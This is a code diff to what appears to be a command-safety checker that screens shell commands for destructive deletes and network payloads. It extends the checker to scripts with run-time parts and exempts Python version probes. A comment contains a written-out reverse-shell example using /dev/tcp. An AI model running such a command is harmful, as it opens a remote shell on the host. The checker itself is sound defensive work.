@@ -19,7 +19,7 @@ from ._lazy import lazy_re
 from ._models import Decision, Dialect, EngineEvent, Rule, ShellKind
 from ._normalise import fold_arg, ps_ascii
 from ._paths import PathScope, output_targets, tree_delete_targets, write_targets
-from ._payloads import PREPARE, script_language, static_output, string_literals
+from ._payloads import PREPARE, python_version_probe, script_language, static_output, string_literals
 from ._project import ReplaceableFiles
 from ._rules import MATCH, CommandView, dotnet_key
 from ._syntax import (
@@ -59,6 +59,9 @@ TREE_DELETE = "destructive.recursive-delete"
 FIND_DELETE = "destructive.find-delete"
 """`find -delete`, which spares a sweep of compiled and cached files (`find . -name '*.pyc' -delete`: see
 `_artefacts`); so does the recursive delete such a `find` feeds (`-exec rm -rf {} +`, `| xargs rm`)."""
+_NETWORK_PAYLOAD = "network.payload"
+_RUN_TIME_PART = "value"
+"""What a run-time part of a written script reads as: a plain word, which no rule names."""
 _SWEEP_DELETERS = frozenset({"rm", "grm", "unlink"})
 _FINDS = frozenset({"find", "gfind"})
 SPARED_DELETE_TARGETS = 32
@@ -878,6 +881,11 @@ class Evaluation(RunsOtherCode, WordChecks):
             text = last[2]  # `echo x > a.sh > b.sh`: one writer, many targets
         else:
             text = static_output(writer, None, frame.dialect)
+            if text is None and any(DYN in a.text for a in writer):
+                # `echo "sh -i >& /dev/tcp/$IP/9000" > x.sh`: the literal parts are still the script; a
+                # run-time part stands as a plain word, so what it cannot hide is judged.
+                held = [Arg(a.text.replace(DYN, _RUN_TIME_PART), a.raw) for a in writer]
+                text = static_output(held, None, frame.dialect)
             self._last_output = (writer, frame.dialect, text)
         if not text or text.isspace():
             return
@@ -1061,6 +1069,8 @@ class Evaluation(RunsOtherCode, WordChecks):
                     p.payload_results[key] = (program, found)
             if hit is None:
                 continue
+            if rule.id == _NETWORK_PAYLOAD and language == "python" and python_version_probe(text):
+                continue  # a library's version printed: nothing is called
             if clause.literals_are_commands:
                 inner = frame.nested(f"a `{language}` payload")
                 for literal in string_literals(program):
